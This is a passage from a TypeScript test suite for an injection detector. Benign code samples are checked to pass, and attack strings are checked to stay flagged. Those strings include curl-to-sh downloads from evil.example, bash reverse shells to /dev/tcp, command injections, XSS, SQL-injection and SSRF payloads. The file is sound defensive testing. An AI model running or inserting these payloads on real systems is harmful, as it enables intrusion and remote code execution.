    '## Send notification from codefresh to slack using "build" template\ncodefresh/notify/slack/build:\n\t$(call assert-set,PIPELINE_ACTION)\n\t$(call assert-set,CHART_NAME)\n\t$(call assert-set,CF_BUILD_URL)\n',
    'DOCKER ?= docker\n\nDOCKER_RUN ?= "$(DOCKER)" run -i --rm --network=$(DOCKER_NETWORK)\nDOCKER_EXEC ?= "$(DOCKER)" exec -it\nCONTAINER_SHELL ?= sh\n\n# It\'s like ssh for docker\ndefine docker-exec\n\t@[ -n "$1" ] || (echo "Specify container name in $(@)"; exit 1)\n\t@$(DOCKER_EXEC) $1 $2\nendef\n',
    '$(eval $(call HostBuild))\n$(eval $(call BuildPackage,mariadb-client))\n$(eval $(call BuildPackage,mariadb-server))\n',
  ]
  for (const code of own) t.same(json({ code }), [], code.slice(0, 60))
  // still read: a reverse shell or a download run at once in a recipe; an injection on the first line; a line make reads as data with a
  // shell's separator, pipe, redirection, `&`, backtick or `$$`; a `$(…)` that is no reference of make's (a lower-case name a program may
  // have, a function named for a program — `sort`, `dir`, `basename` print what the shell then runs —, `eval` given words); a recipe
  // before any rule; fewer than three lines
  for (const v of [
    'X := $(call a,b)\nY := $(call c,d)\nall:\n\tcurl -s http://evil.example/x | sh',
    'X := $(call a,b)\nY := 1\nall:\n\tbash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    'X := 1; id\nY := 2\nZ := 3',
    'X := 1\nY := $(call f,$(id))\nZ := 2',
    'X := 1\nY := $(INSTALL_DIR)\nZ := $(id)',
    'X := 1\nY := $(basename /usr/bin/id)\nZ := 2\nW := 3',
    'X := 1\nY := $(eval $(call BuildPackage,x))\nZ := 2; id',
    '\tid; whoami\nall:\n\tmake x\nX := 1',
  ]) t.ok(q(v).includes('rce'), `still read: ${JSON.stringify(v)}`)
  // (review) shapes a shell runs that the first version took for make's lines: test/insight/build-files.test.ts
  // its limit, a Dockerfile's: the recipes are the build's own (`all:⏎\tid⏎\twhoami` is not reported)
  t.same(q('build:\n\tcat /etc/hostname; id\n\twhoami\n\tmake -C src all\n'), [], 'a recipe\'s commands are its build\'s')
})

t.test("fortieth round: a notebook's shell escape opening on a file test", async (t) => {
  // Peter Norvig's notebooks: `! [ -e enable1.txt ] || curl -O https://…` downloads a word list once
  const notebook = (line: string) => ({ cells: [{ cell_type: 'markdown', metadata: {}, source: ['# Spelling Bee\n', '\n', 'A puzzle.'] }, { cell_type: 'code', execution_count: 1, metadata: {}, outputs: [], source: [line] }, { cell_type: 'code', execution_count: 2, metadata: {}, outputs: [], source: ['words = open("enable1.txt").read().split()\n', 'len(words)'] }], metadata: { kernelspec: { display_name: 'Python 3', language: 'python', name: 'python3' } }, nbformat: 4, nbformat_minor: 4 })
  for (const line of ['! [ -e enable1.txt ] || curl -O http://norvig.com/ngrams/enable1.txt', '! [ -e evs.html ] || curl -s -o evs.html https://morningconsult.com/tracking-trump-2/', '![[ -d data ]] || mkdir data']) t.same(json(notebook(line)), [], line)
  // a download run at once or a reverse shell is read there still; outside a document the test opens no command line
  for (const line of ['! [ -e x ] || curl -s http://evil.example/x.sh | sh', '! [ -e x ] || bash -i >& /dev/tcp/10.0.0.1/4444 0>&1']) t.ok(json(notebook(line)).includes('rce'), `still read: ${line}`)
  t.ok(q('[ -e x ] || id').includes('rce'), 'still read outside a document')
})

t.test("fortieth round, after the forty-ninth and fiftieth parts' measurement: an Odin attribute on a line of its own", async (t) => {
  for (const code of ['import "base:runtime"\n\n@(require_results)\nuser_home_dir :: proc(allocator: runtime.Allocator) -> (home: string, err: Error) {', '@(private)\nIF_Flag :: enum u32 {\n\tUP,\n\tBROADCAST,\n}', '\t@(require_results, enable_target_feature = "neon,sha3")\n\tsha512su0 :: proc(w0, w1: x86.__m128i) -> x86.__m128i {']) t.same(json({ code }), [], code)
  // a call, an expression, a second block on the line or text after it is Razor's as before
  for (const v of ['x\n@(System.Diagnostics.Process.Start("id"))', 'x\n@(a) @(DateTime.Now)', 'x\n@(x) y', 'x\n@(name = "a") ; @(1+1)', 'x @(private)', 'x\n@(a)\n@(DateTime.Now)']) t.ok(json({ code: v }).includes('ssti'), `still read: ${JSON.stringify(v)}`)
  // (review) Odin's attributes' names only: PowerShell's array subexpression runs a program by any other name (`@(whoami)`, `@(cmd = "calc")`)
  for (const v of ['x\n@(whoami)', '  @(whoami)', 'x\n@(calc)\n', 'x\r\n@(calc)', '@(whoami, id)', '@(cmd = "calc")']) t.ok(q(v).includes('ssti'), `still read (review): ${JSON.stringify(v)}`)
})

t.test("fortieth round, after the fifty-first and fifty-second parts' measurement: CloudWatch's dynamic labels", async (t) => {
  // Grafana's CloudWatch dashboards: `${PROP('Dim.TableName')}` names a metric's dimension (a bad substitution to a shell; PHP has no PROP)
  for (const label of ["${PROP('MetricName')} ${PROP('Stat')}", "ConsumedReadCapacityUnits ${PROP('Dim.TableName')}", "${PROP('Dim.CertificateArn')}"]) {
    t.same(json({ panels: [{ targets: [{ label, namespace: 'AWS/DynamoDB', region: 'default' }] }] }), [], label)
  }
  for (const v of ["${PROP('x')}; id", "${system('id')}", "${PROP(system('id'))}"]) t.ok(q(v, 'label').includes('rce'), `still read: ${v}`)
})

t.test("fortieth round, after the fifty-third part's measurement: a C file's header comment", async (t) => {
  // htop's files: `/*⏎htop - Meter.c⏎(C) 2004 …⏎*/` — a shell reads `/*` as a glob and runs `htop`; a program's comment is text about it
  const file = '/*\nhtop - LoadAverageMeter.c\n(C) 2004-2011 Hisham H. Muhammad\nReleased under the GNU GPLv2+, see the COPYING file\nin the source distribution for its full text.\n*/\n\n#include "config.h" // IWYU pragma: keep\n\n#include "LoadAverageMeter.h"\n\n#include "CRT.h"\n#include "Object.h"\n\nstatic const int LoadMeter_attributes[] = {\n   LOAD\n};\n\nstatic void LoadAverageMeter_updateValues(Meter* this) {\n   Platform_getLoadAverage(&this->values[0], &this->values[1], &this->values[2]);\n}\n'
  t.same(json({ code: file }), [])
  // outside a program it is read as before
  t.ok(q('/*\nhtop - x.c\n*/').includes('rce'), 'no program: a glob, then a command')
})

t.test('fortieth round: a program spelt with a relative glob, expanded from the root as a service run there would', async (t) => {
  // an older review's gap: `(*bin/bash -c id *)` on a line of its own ran `id` in bash and dash from `/`
  for (const v of ['x\n(*bin/bash -c id *)', 'x;*bin/bash -c id', 'x;*in/id', 'x;b?n/id', '?in/cat /etc/passwd']) t.ok(q(v).includes('rce'), v)
  for (const v of ['see src/*.ts and lib/*.js', 'glob **/*.md', 'cp *.txt dist/', 'a?b/c', 'usr/*/env']) t.same(q(v), [], v)
})

t.test("fortieth round: a part of a Dockerfile, cut from its middle, is its build's own program too", async (t) => {
  // the forty-third and forty-fourth parts' snippets: no FROM first
  const snippets = [
    'ENV HOME /home/pulseaudio\nRUN useradd --create-home --home-dir $HOME pulseaudio \\\n\t&& usermod -aG audio,pulse,pulse-access pulseaudio \\\n\t&& chown -R pulseaudio:pulseaudio $HOME\n\nWORKDIR $HOME\nUSER pulseaudio\n\nCOPY default.pa /etc/pulse/default.pa\nENTRYPOINT [ "pulseaudio" ]\nCMD [ "--log-level=4", "--log-target=stderr", "-v" ]\n',
    'RUN set -eux; \\\n\tapt-get update; \\\n\tapt-get install -y --no-install-recommends \\\n\t\tjenkins="$JENKINS_VERSION" \\\n\t; \\\n\tapt-get dist-clean; \\\n\tjava -jar /usr/share/java/jenkins.war --version\n\nENV JENKINS_HOME /var/lib/jenkins\nRUN mkdir -p "$JENKINS_HOME" && chown -R jenkins:jenkins "$JENKINS_HOME"\nVOLUME $JENKINS_HOME\n\nEXPOSE 8080\nENTRYPOINT ["docker-entrypoint.sh"]\nCMD ["jenkins"]\n',
  ]
  for (const code of snippets) t.same(json({ code }), [], code.slice(0, 60))
  // what the first instruction's line costs: a snippet opening on a chain in a RUN line is read as a first line's injection (after a
  // comment too, since the review)
  t.same(json({ code: '# Add chromium user\nRUN groupadd -r chromium && useradd -r -g chromium -G audio,video chromium \\\n    && mkdir -p /home/chromium/Downloads && chown -R chromium:chromium /home/chromium\n\n# Run as non privileged user\nUSER chromium\n\nENTRYPOINT [ "/usr/bin/chromium" ]\nCMD [ "--user-data-dir=/data" ]\n' }), ['rce'])
  // still read: an instruction holding data (a variable's value, a label, a user, a path) with a shell's separator or substitution, on its
  // line or a line continuing it (`ARG a=\⏎;id;` runs `id` in a shell); a line no instruction opens; fewer than three instructions;
  // an injection on the first line; a reverse shell or a download run at once
  for (const v of ['ARG a=\\\n;id;\nFROM alpine\nLABEL a=b\nCMD x\n', 'ENV a=b; id\nRUN make all\nCMD ["x"]\n', 'LABEL a=b \\\n  && id\nRUN make all\nCMD ["x"]\n', 'USER $(id)\nRUN make all\nCMD ["x"]\n', 'WORKDIR /app || id\nRUN make all\nCMD ["x"]\n', 'COPY a b\nRUN make all && rm -rf /tmp/x\n', 'RUN make all; id\nUSER app\nCMD ["server"]\n', 'ENV a b\nRUN curl -s http://evil.example/x.sh | sh\nCMD ["x"]\n', 'ENV a b\nRUN make all\nid; whoami\nCMD ["x"]\n']) {
    t.ok(json({ code: v }).includes('rce'), `still read: ${JSON.stringify(v)}`)
  }
  // (review) `&` in an instruction holding data (`ENV a b & touch /tmp/p` ran in bash and dash; a download, then its run), and a blank or a
  // comment line before an injected first instruction (the first instruction's line is judged, not the value's first)
  for (const v of ['USER app\nENV a b & touch /tmp/pwned_1\nWORKDIR /srv\nEXPOSE 80', 'USER app\nENV a b & curl -so /tmp/x.sh http://evil.example/x.sh\nENV c d & sh /tmp/x.sh\nWORKDIR /srv', 'USER app\nARG a=\\\n& touch /tmp/pwned_5 &\nWORKDIR /srv\nEXPOSE 80', 'USER app\nENV a b & id > /tmp/pwned_2 &\nWORKDIR /srv\nEXPOSE 80', '\nRUN make all; touch /tmp/pwned_6\nUSER app\nCMD ["server"]', '# build\nRUN make all; touch /tmp/pwned_7\nUSER app\nCMD ["server"]']) {
    t.ok(q(v).includes('rce'), `still read (review): ${JSON.stringify(v)}`)
  }
  // its limit, as a shell script's: the shape is dressing anyone can put around a command in a RUN line
  t.same(json({ code: 'RUN a && b\nRUN c && id\nENV x y\nCMD d; id' }), [], 'commands in RUN and CMD lines are the build\'s own')
})

t.test("forty-first round, from the forty-seventh and forty-eighth parts: a plugin's API version, a wrapped code span, a padded table, a legend's label", async (t) => {
  // Figma's plugin manifests: `"api": "1.0.0"` under a key a URL's words are in is a version, as one or two numbers were
  t.same(json({ name: 'Payments Demo', id: '111111123', api: '1.0.0', main: 'code.js', editorType: ['figma', 'figjam'] }), [], "a plugin manifest's API version")
  for (const v of ['2.3.1', '1.0.0', '11.5.1']) t.same(q(v, 'api'), [], `api=${v}`)
  for (const v of ['127.0.1', '10.0.1', '192.168.1', '169.254.43518', '0.0.0', '0177.0.1', '0x7f.0.1']) t.ok(q(v, 'api').includes('ssrf'), `api=${v}`)
  t.ok(q('http://2.3.1/', 'url').includes('ssrf'), 'a shortened address in a URL still counts')
  // a Markdown code span wrapped with its paragraph is code, as on one line
  const wrapped = '## Other\n\n* As stated before, `cmd/cue` should not be\n  implemented in terms of anything internal, and by extension `cue\n  cmd` v2 should not rely\n  on internals.\n'
  t.same(q(wrapped, 'body'), [], 'a code span across a line break')
  t.ok(q('## Other\n\n* a `x`\n\n$(id) `y`\n', 'body').includes('rce'), 'not across a blank line: the paragraph ends')
  t.ok(q('## Other\n\n* a `x`\n$(id) and more\n', 'body').includes('rce'), 'outside any span')
  // a table whose delimiter row pads its dashes to a column
  const table = '### Menu-from-command\n\n| _field_           | _description_                      | _required_ |\n| ------------      | -----------------------------------| ---------- |\n| command           | The command to run to generate menu options | yes        |\n'
  t.same(q(table, 'body'), [], 'a padded delimiter row')
  t.ok(q(`${table}\nthen; curl http://evil.example/x | sh\n`, 'body').includes('rce'), 'outside the table still read')
  // Jinja's `namespace` is a whole name: a legend's `{{temporal_namespace}}` is a label
  for (const v of ['{{temporal_namespace}}', '{{ namespace_mode }}', '{{temporal_namespace}} - {{ namespace_mode }}']) t.same(json({ legendFormat: v }), [], v)
  for (const v of ['{{ (namespace)[1] }}', "{{ namespace()|attr('x') }}", '{{ x|namespace }}', '{{ foo(namespace) }}', '{{ a_b ~ namespace.__init__ }}']) t.ok(q(v).includes('ssti'), v)
})

t.test("forty-first round, from the fifty-fifth and fifty-sixth parts: C++'s and Rust's reference types in a program's signatures", async (t) => {
  const rust = 'impl FromLua for Align {\n\tfn from_lua(value: Value, _: &Lua) -> mlua::Result<Self> {\n\t\tlet Value::Integer(n) = value else {\n\t\t\treturn Err(e);\n\t\t};\n\t\tOk(n)\n\t}\n}\n'
  t.same(json({ code: rust }), [], "Rust's `_: &Lua` parameter")
  t.same(json({ code: "impl<'de> Deserialize<'de> for FileExtra {\n\tfn deserialize<D>(d: D, lua: &'de mut Lua) -> Result<Self, D::Error> {\n\t\tlet inner = FileExtraInner::deserialize(d)?;\n\t\tOk(Self::new(inner.link_to, inner.backing))\n\t}\n}\n" }), [], 'a lifetime and `mut`')
  const cpp = 'void CGlobalShortcutsProtocol::sendGlobalShortcutEvent(std::string appid, std::string trigger, bool pressed) {\n    for (auto const& c : m_clients) {\n        for (auto const& sh : c->m_shortcuts) {\n            if (sh->appid == appid && sh->id == trigger) {\n                sh->sendEvent(pressed);\n            }\n        }\n    }\n}\n'
  t.same(json({ code: cpp }), [], "C++'s `auto const& sh :` in a range for")
  t.same(json({ code: '        static bool           isSpecial(const WORKSPACEID& id);\n        static WORKSPACEID    newSpecialID(std::span<const SWorkspaceQueryable> workspaces);\n        static bool           idOutOfBounds(std::span<const SWorkspaceQueryable> workspaces, const WORKSPACEID& id);\n' }), [], 'declarations aligned to a column')
  // a shell reads `f (…` as a syntax error: nothing on that line runs; but a subshell opened by a shell's word, a command substitution,
  // a process substitution, a line of its own, or outside any parentheses is read
  const around = (line: string) => `void f(int a) {\n  g(a);\n  h(a);\n}\n${line}\n`
  for (const line of ['while (x& id) {', 'if (x& id) then', '(x& id)', 'a=$(x& id)', 'cat <(x& id)', 'x& id', 'do (x& id)', 'f(x) && curl http://evil.example/s | sh']) t.ok(json({ code: around(line) }).includes('rce'), line)
  t.ok(json({ code: 'fn main() {\n    let a = 1;\n    while (x& id) {}\n}\n' }).includes('rce'), 'a subshell after `while`')
  // (after the fifty-seventh part's measurement) a closure's parameters, in a method's call
  t.same(json({ code: '    pub fn sort_by_path(&mut self) {\n        self.with_dirs_mut(|dirs| {\n            dirs.sort_unstable_by(|dir1: &Dir, dir2: &Dir| {\n                dir1.path.cmp(&dir2.path)\n            })\n        });\n    }\n' }), [], "Rust's `|dir1: &Dir, dir2: &Dir|`")
  t.ok(json({ code: around('127.0.0.1 "x.y("T& id;') }).includes('rce'), 'a quoted method call opens no list: the line runs')
})

t.test("forty-first round, its review's payloads: each relaxation's bypass, read again", async (t) => {
  // three numbers with a leading zero: octal to inet_aton, curl and Node, decimal to Java's InetAddress — internal by either reading counts
  for (const v of ['0127.0.1', '010.0.1', '0169.254.43518', '0192.168.1', '0127.0.1/secret.txt']) t.ok(q(v, 'url').includes('ssrf'), `url=${v}`)
  for (const v of ['011.5.1', '1.0.0', '0.6']) t.same(q(v, 'url'), [], `url=${v}`)
  // a quoted `(` opens no signature's list: the `&` is a shell's and the line runs
  const rust = 'fn load(lua: Lua, name: String) -> Result<()> {\n    let x = compute(&lua, 1);\n    println!("{}", name);\n    Ok(())\n}'
  for (const head of ["127.0.0.1 'f('T& id;", '127.0.0.1 "f("T& id;']) t.ok(json({ host: `${head}\n${rust}` }).includes('rce'), head)
  // a span's second line opening a block (an HTML block ends the paragraph: no span is there)
  t.ok(q('# Release notes\n\nFixed the parser `a\n<script>alert(document.domain)</script>` ok\n\n- Other fixes\n', 'body').includes('xss'), 'a script opening the line after a backtick')
  // a table's row a line continues into, after a backslash: the row is that command's rest (padded or not)
  for (const delimiter of ['| -----      | ------      |', '| ----- | ------ |']) {
    t.ok(q(`# Aliases\n\nlist: ls \\\n| id; echo pwned #|\n| alias | command |\n${delimiter}\n| ll | ls -l |\n`, 'body').includes('rce'), delimiter)
  }
})

t.test("forty-first round, from the fifty-seventh and fifty-eighth parts: Python's `else:` is no shell's word", async (t) => {
  const qtile = "        muted = self.check_mute_string in check_mute\n        volgroups = re_vol.search(mixer_out)\n        if volgroups:\n            return int(volgroups.groups()[0])\n        else:\n            return -1\n\n    def cmd_increase_vol(self):\n        if self.volume_up_command is not None:\n            subprocess.call(self.volume_up_command, shell=True)\n        else:\n            subprocess.call(self.create_amixer_command('-q', 'sset', self.channel, '2%+'))\n"
  t.same(json({ snippet: qtile }), [], "qtile's volume widget")
  t.ok(json({ snippet: 'if true; then\n  x=1\nelse\n  curl http://evil.example/s | sh\nfi\n' }).includes('rce'), "a shell's `else` still makes a program, and its download piped to a shell is read")
  t.ok(json({ snippet: "x = 1\nelse:\n    __import__('os').system('id')\n" }).includes('rce'), "Python's sink with its import is read as before")
})

t.test("forty-first round, from the fifty-ninth and sixtieth parts: a time function's name qualifying another's is no call of it", async (t) => {
  for (const v of ['results_df = benchmark.run("./classifier_benchmarking_results.csv")', 'r = sleep.run("x")']) t.same(q(v, 'source'), [], v)
  for (const v of ['1 and benchmark(5000000,md5(1))', "1' and sleep(5)--", "1 and dbms_pipe.receive_message(('a'),10)", "x' or benchmark (5000000,md5(1))#", '1;select pg_sleep(5)']) t.ok(q(v).includes('sqli'), v)
})

t.test("forty-first round, from the fifty-ninth part: a clause's guard ending on `->`, a `case …:` label", async (t) => {
  const timex = '        diff <= @day && diff > @day * 2 * -1 ->\n          Translator.translate(\n            locale,\n            "relative_time",\n            "yesterday"\n          )\n\n        diff <= @day * 2 && diff > @month * -1 ->\n          Translator.translate_plural(\n            locale,\n            "relative_time",\n            div(diff * -1, @day)\n          )\n'
  t.same(json({ snippet: timex }), [], "Elixir's `cond` clauses")
  const tcell = 'func decodeUTF16Rune(surrogate *rune, wc rune) []rune {\n\tswitch {\n\tcase wc >= 0xD800 && wc <= 0xDBFF:\n\t\tif *surrogate != 0 {\n\t\t\treturn nil\n\t\t}\n\t\treturn nil\n\t}\n}\n'
  t.same(json({ snippet: tcell }), [], "Go's `case …:` label")
  // a shell runs neither line; a chain on a line of its own, or a case's arm, is read
  const around = (line: string) => `func f() {\n  x := 1\n  return x\n}\n${line}\n`
  for (const line of ['x && curl http://evil.example/s | sh', 'x; wget http://evil.example/s -O- | sh']) t.ok(json({ snippet: around(line) }).includes('rce'), line)
})


t.test("forty-second round, from the sixty-first and sixty-second parts: Graphviz's comments in a drawing, a program's names as a SQL function's arguments", async (t) => {
  // a drawing as Graphviz writes it: a comment before each node and edge, between the elements
  const graph = '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<!-- Generated by graphviz version 8.1.0 (0)\n -->\n<svg width="107pt" height="229pt"\n viewBox="0.00 0.00 107.00 229.25" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n<g id="graph0" class="graph" transform="scale(1 1) rotate(0) translate(4 225.25)">\n<!-- m -->\n<g id="node1" class="node">\n<title>m</title>\n<ellipse fill="white" stroke="black" cx="54" cy="-203.25" rx="27" ry="18"/>\n</g>\n<!-- m&#45;&gt;sd -->\n<g id="edge1" class="edge">\n<title>m&#45;&gt;sd</title>\n<path fill="none" stroke="black" d="M47.46,-185.3C44.45,-177.48 40.79,-168 37.41,-159.23"/>\n</g>\n</g>\n</svg>\n'
  t.same(json({ cells: [{ outputs: [{ data: { 'image/svg+xml': graph } }] }] }), [], "a notebook's saved drawing")
  t.same(q('<svg viewBox="0 0 1 1"><path d="M1"/>\n<!-- a note -->\n<g><path d="M2"/></g></svg>'), [], 'a comment between elements')
  // a comment holding a tag or a quote, or one inside a tag, keeps the element read; so does anything active beside one
  for (const v of [
    '<svg viewBox="0 0 1 1"><g title="x>\n<!--"><script>alert(1)</script><g title="-->"></g></svg>',
    '<svg viewBox="0 0 1 1"><g <!-- onload=alert(1) -->><path d="M1"/></g></svg>',
    '<svg viewBox="0 0 1 1"><path d="M1"/>\n<!-- </svg> --><script>alert(1)</script></svg>',
    '<svg viewBox="0 0 1 1"><path d="M1"/><!-- x --><image href=x onerror=alert(1)></svg>',
    '<svg viewBox="0 0 1 1"><path d="M1"/><!-- x --!> <set attributeName=onmouseover to=alert(1)> --></svg>',
  ]) t.ok(q(v).includes('xss'), v)
  // a function SQL alone calls, assigned to a name and handed a program's names: the notebook's own import
  for (const v of ['state_dict = load_file(output_file)', 'x = updatexml(tree, patch)', 'delay = sleep(self.interval)']) t.same(q(v, 'source'), [], v)
  for (const v of ["1 and load_file(0x2f6574632f706173737764)", "' union select load_file(path)--", 'load_file(user)', "load_file('/etc/passwd')", 'sleep(__TIME__)#', 'pg_sleep(__TIME__)--', "1' and sleep(delay)#", "' or x = sleep(id)#", '1=sleep(age)', 'sleep(age)', 'load_file(output_file)', '(sleep(age))', '1 = updatexml(aaa, bbb)', '1-sleep(age)', "1 and extractvalue(1,concat(0x7e,version()))"]) t.ok(q(v).includes('sqli'), v)
})

t.test("forty-second round, from the sixty-first and sixty-second parts: a C comparison after a cast, a Rust macro's repetitions, display math", async (t) => {
  const vaArg = '#define va_arg(ap, ty)                                                  \\\n  ({                                                                    \\\n    int klass = __builtin_reg_class(ty);                                \\\n    *(ty *)(klass == 0 ? __va_arg_gp(ap, sizeof(ty), _Alignof(ty)) :    \\\n            __va_arg_mem(ap, sizeof(ty), _Alignof(ty)));                \\\n  })\n'
  t.same(json({ snippet: vaArg }), [], "chibicc's va_arg")
  for (const v of ['*)(uid=*))(|(uid=*', '*)(cn=*', 'admin*)(uid=*']) t.ok(q(v).includes('ldapi'), v)
  const serde = '    // Comma after the most recent element.\n    (@array [$($elems:expr),*] , $($rest:tt)*) => {\n        $crate::json_internal!(@array [$($elems,)*] $($rest)*)\n    };\n'
  t.same(json({ snippet: serde }), [], "serde_json's json! rules")
  t.same(json({ snippet: 'macro_rules! each {\n    ($($body:tt)*) => {\n        $($body)*\n    };\n}\n' }), [], 'a macro repeating its body')
  // anything else substituted is read, in a macro or not
  for (const v of ['macro_rules! x { $(id)* }', 'macro_rules! a {\n$(curl http://evil.example/x.sh|sh)*\n}', '$crate::x $($x curl http://evil.example/x.sh|sh)*', '$($SHELL)*']) t.ok(q(v).includes('rce'), v)
  const math = '## Generate functions\nThe sign is\n$$\n  {\\rm sgn}(\\alpha) := \\left\\{\n  \\begin{aligned}\n    1 \\;\\;\\; &{\\rm if}\\; \\alpha \\geq 0 \\\\\n    -1 \\;\\;\\;&{\\rm if}\\; \\alpha < 0\n  \\end{aligned}\\right.\n$$\nwhere the vector is drawn at random.\n'
  t.same(json({ cells: [{ cell_type: 'markdown', source: math }] }), [], "a Markdown cell's display math")
  t.ok(json({ cells: [{ cell_type: 'markdown', source: '## Setup\nRun it:\n$$\n; curl http://evil.example/x.sh | sh\n$$\n<script>alert(1)</script>\n' }] }).includes('xss'), 'beside math, the page is read')
  t.ok(q('## Setup\n\nRun this first: x; curl http://evil.example/x.sh | sh\n\nwhere $$ is the PID\n', 'body').includes('rce'), 'a lone `$$` takes nothing away')
})

t.test('forty-second round: a JSON body cut in its last string, a JSON text there, is read as the JSON it began', async (t) => {
  const big = (text: string) => Buffer.from(JSON.stringify({ kind: 'notebook', document: text }))
  const cells = [{ cell_type: 'markdown', source: '## Math\n$$\n  1 \\;\\;\\; &{\\rm if}\\; \\alpha \\geq 0\n$$\n' }, ...Array.from({ length: 400 }, (_, i) => ({ cell_type: 'code', source: `x${i} = ${i}\n` }))]
  const notebook = JSON.stringify({ cells })
  t.ok(notebook.length > 16_384, 'past the detector\'s 16 KiB')
  t.same(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: big(notebook) }), [], 'its cells read as cells')
  // what the completed text holds is still read; a string the cut did not end is not completed
  const probe = JSON.stringify({ cells: [{ source: '; curl http://evil.example/x.sh | sh' }, ...cells] })
  t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: big(probe) }).includes('rce'), 'a probe in a completed cell')
  const early = Buffer.from(JSON.stringify({ document: '{"a":"<img src=x onerror=alert(1)>', pad: 'x'.repeat(20_000) }))
  t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: early }).includes('xss'), 'an earlier field, cut by nothing, read as it came')
})

t.test("forty-second round, from the sixty-third and sixty-fourth parts: MDX's embedded sandboxes, a name that begins with a scheme's, C++'s operators", async (t) => {
  const sandbox = '### Using the hook\n\nBelow we can see it called in a component.\n\n<iframe\n  src="https://codesandbox.io/embed/github/reduxjs/redux-toolkit/tree/master/examples/query/react/authentication?fontsize=12&hidenavigation=1&module=%2Fsrc%2Ffeatures%2Fauth%2FauthSlice.tsx&theme=dark&runonclick=1"\n  style={{\n    width: \'100%\',\n    height: \'800px\',\n    border: 0,\n    borderRadius: \'4px\',\n    overflow: \'hidden\',\n  }}\n  title="RTK Query Authentication Example"\n  allow="geolocation; microphone; camera; midi; vr; accelerometer; gyroscope; payment; ambient-light-sensor; encrypted-media; usb"\n  sandbox="allow-modals allow-forms allow-popups allow-scripts allow-same-origin"\n></iframe>\n'
  t.same(json({ readme: sandbox }), [], "Redux Toolkit's embedded example")
  // a style object with an assignment or a call is no embed's; nor a handler beside it
  for (const style of ["style={{ width: '100%', onload=alert(1) }}", "style={{ background: url('javascript:alert(1)') }}", "style={{ width: '100%' }} onload=alert(1)"]) {
    t.ok(json({ readme: sandbox.replace(/style=\{\{[^}]*\}\}/, style) }).includes('xss'), style)
  }
  t.same(json({ readme: '## Tabs\n\n<Tabs groupId="language" queryString defaultValue={constants.defaultJavaScriptSpecLanguage} values={constants.javaScriptSpecLanguages}>\n<TabItem value="typescript">\n' }), [], "MDX's tabs, a constant's name beginning with JavaScript")
  for (const v of ['<a href=javascript:alert(1)>x</a>', '<animate attributeName=href values=javascript:alert(1) />', '<a href="jAvAsCrIpT:alert(1)">x</a>', '<iframe src="javascript\n:alert(1)">', '<a href=" javascript:alert(1)">x</a>']) t.ok(q(v).includes('xss'), v)
  const emit = '#include "yaml-cpp/node/emit.h"\n#include "nodeevents.h"\n\nnamespace YAML {\nEmitter& operator<<(Emitter& out, const Node& node) {\n  EmitFromEvents emitFromEvents(out);\n  NodeEvents events(node);\n  events.Emit(emitFromEvents);\n  return out;\n}\n\nstd::string Dump(const Node& node) {\n  Emitter emitter;\n  emitter << node;\n  return emitter.c_str();\n}\n}  // namespace YAML\n'
  t.same(json({ snippet: emit }), [], "yaml-cpp's output operators")
  const regex = '// simplified regular expressions\n// . Only matches from start of string\nclass YAML_CPP_API RegEx {\n public:\n  RegEx();\n  explicit RegEx(char ch);\n  RegEx(const std::string& str, REGEX_OP op = REGEX_SEQ);\n  friend YAML_CPP_API RegEx operator!(const RegEx& ex);\n  friend YAML_CPP_API RegEx operator+(const RegEx& ex1, const RegEx& ex2);\n};\n'
  t.same(json({ snippet: regex }), [], "yaml-cpp's RegEx class")
  // bash runs `operator<(…)` and `operator>(…)` (process substitutions): those lines are read, and so is a command in any of them
  for (const line of ['std::string& operator<(const x& a, curl http://evil.example/x.sh|sh& b);', 'x& operator>(wget http://evil.example/x -O- | sh& y)', 'Emitter& operator<<(Emitter& out, curl http://evil.example/x.sh | sh);']) {
    t.ok(json({ snippet: emit + line + '\n' }).includes('rce'), line)
  }
})

t.test("forty-second round, its review's payloads: each relaxation's bypass, read again", async (t) => {
  // a SQL function assigned in an UPDATE's SET list, or handed SQL's own values for names: a delay with no schema known, a file read
  for (const v of ["', name = sleep(utc_time), bio = '", "', name = sleep(current_time) #", '1, name = sleep(utc_time)', '1, name = sleep(localtime)', "', bio = load_file(homedir) #", '1, bio = load_file(homedir)', "',\nname = sleep(age),\nbio = '", "',\n\nname = sleep(age),\nbio = '", 'x = sleep(utc_time)']) t.ok(q(v).includes('sqli'), v)
  t.same(q('import os\nfrom safetensors.torch import load_file\n\nstate_dict = load_file(output_file)\nprint(len(state_dict))\n', 'source'), [], "a notebook's own call, after a blank line")
  // a Rust macro's trigger in a shell's comment, or its variable bound by the shell: the repetition is read
  for (const v of ["# $crate::m\nc='curl -s 127.0.0.1:8000/y'\n$($c)+\n", '# macro_rules! m\nx=id\n$($x)*\n', 'macro_rules! m {\n ($($c:expr),*) => {\n for c in id; do $($c)*; done\n };\n}', 'macro_rules! m {\n ($($c:expr),*) => {\n c=id\n $($c)*\n };\n}']) t.ok(q(v).includes('rce'), JSON.stringify(v))
  // `$$` right before a command substituted is the shell's process id, not math
  t.ok(q('# Notes\n\necho $$$(curl -s 127.0.0.1:8000/x|sh)$$\n').includes('rce'), '$$$(…)$$')
  // after an operator's list, the line runs on: `operator=()` is an empty array assigned, then a job and a command
  const emit = '#include "yaml-cpp/node/emit.h"\n#include "nodeevents.h"\n\nnamespace YAML {\nLINE\nEmitter& operator<<(Emitter& out, const Node& node) {\n  EmitFromEvents emitFromEvents(out);\n  NodeEvents events(node);\n  return out;\n}\n}  // namespace YAML\n'
  for (const line of ['operator=() true& id;', 'operator+=() out& reboot;', 'operator+(const X& a) true& id;', 'Foo& operator!() true& id;']) t.ok(json({ snippet: emit.replace('LINE', line) }).includes('rce'), line)
})

t.test("forty-second round, from the sixty-fifth and sixty-sixth parts: MathJax configured by data, Google Fonts imported, a file named for Apache, a notebook's loop", async (t) => {
